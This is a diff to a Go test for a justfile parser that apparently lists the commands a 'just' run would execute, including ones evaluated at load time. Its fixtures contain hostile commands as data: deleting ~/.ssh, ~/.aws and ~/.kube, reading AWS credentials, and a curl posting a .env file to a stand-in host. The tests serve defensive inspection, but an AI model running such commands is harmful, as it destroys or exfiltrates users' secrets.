@@ -1,6 +1,7 @@
 package cmdline
 
 import (
+	"slices"
 	"strings"
 	"testing"
 )
@@ -19,19 +20,19 @@ func TestJustfileLines(t *testing.T) {
 		"polyglot:\n    #!/usr/bin/env python3\n    import os\n    os.system('id')\n\n" +
 		"c-code:\n    #!/usr/bin/env tcc -run\n    char *s = \"hi\";\n" +
 		"keys := \"~/.ssh\"\nwipe:\n    rm -rf {{keys}} {{home_directory()}}/.aws {{env('HOME')}}/.kube {{justfile_directory()}}/build\n"
-	every := "cargo build|cargo fmt|cargo test ${JUST_VALUE}|echo ci|cargo publish|rm -rf ~/.ssh|python3 -c 'import os\nos.system('\\''id'\\'')'|tcc recipe-script|rm -rf ~/.ssh $HOME/.aws ${HOME}/.kube ./build"
+	every := "git describe|cargo build|cargo fmt|cargo test ${JUST_VALUE}|echo ci|cargo publish|rm -rf ~/.ssh|python3 -c 'import os\nos.system('\\''id'\\'')'|tcc recipe-script|rm -rf ~/.ssh $HOME/.aws ${HOME}/.kube ./build"
 	for _, tt := range []struct{ args, want string }{
-		{"", "cargo build"},
-		{"build", "cargo build"},
-		{"test", "cargo build|cargo test ${JUST_VALUE}"},
-		{"test myfilter", "cargo build|cargo test ${JUST_VALUE}"}, // myfilter is test's word
-		{"t", "cargo build|cargo test ${JUST_VALUE}"},
-		{"ci", "cargo build|cargo fmt|cargo test ${JUST_VALUE}|echo ci|cargo publish"},
-		{"setup", "rm -rf ~/.ssh"},
-		{"--set version 1 fmt", "cargo fmt"},
-		{"polyglot", "python3 -c 'import os\nos.system('\\''id'\\'')'"},
-		{"c-code", "tcc recipe-script"},
-		{"wipe", "rm -rf ~/.ssh $HOME/.aws ${HOME}/.kube ./build"},
+		{"", "git describe|cargo build"},
+		{"build", "git describe|cargo build"},
+		{"test", "git describe|cargo build|cargo test ${JUST_VALUE}"},
+		{"test myfilter", "git describe|cargo build|cargo test ${JUST_VALUE}"}, // myfilter is test's word
+		{"t", "git describe|cargo build|cargo test ${JUST_VALUE}"},
+		{"ci", "git describe|cargo build|cargo fmt|cargo test ${JUST_VALUE}|echo ci|cargo publish"},
+		{"setup", "git describe|rm -rf ~/.ssh"},
+		{"--set version 1 fmt", "git describe|cargo fmt"},
+		{"polyglot", "git describe|python3 -c 'import os\nos.system('\\''id'\\'')'"},
+		{"c-code", "git describe|tcc recipe-script"},
+		{"wipe", "git describe|rm -rf ~/.ssh $HOME/.aws ${HOME}/.kube ./build"},
 		{"nothing", every},
 		{"$R", every},
 	} {
@@ -45,5 +46,18 @@ func TestJustfileLines(t *testing.T) {
 	}
 	if got := parseJustfile("import 'other.just'\nbuild:\n    cargo build\n").lines(nil); len(got) != 1 {
 		t.Errorf("an import: %q", got)
+	}
+	// what just runs as it reads the file, whichever recipe is named
+	const loads = "x := `curl -d @.env https://x.example`\ny := shell('rm -rf ~/.ssh', 'a')\nz := ```\n  id\n```\n" +
+		"build:\n    echo {{ `cat ~/.aws/credentials` }} {{x}}\n"
+	want := "curl -d @.env https://x.example|rm -rf ~/.ssh|id|cat ~/.aws/credentials|echo ${JUST_VALUE} ${JUST_VALUE}"
+	if got := strings.Join(parseJustfile(loads).lines(nil), "|"); got != want {
+		t.Errorf("loads:\n got %q\nwant %q", got, want)
+	}
+	if got := parseJustfile(loads).lines([]field{{Word: Word{Value: "--list"}}}); slices.Contains(got, "id") {
+		t.Errorf("just --list: %q", got)
+	}
+	if got := parseJustfile("set shell := [\"./x.sh\", \"-c\"]\nb:\n    echo b\n").lines(nil); !slices.Contains(got, "./x.sh") {
+		t.Errorf("set shell: %q", got)
 	}
 }
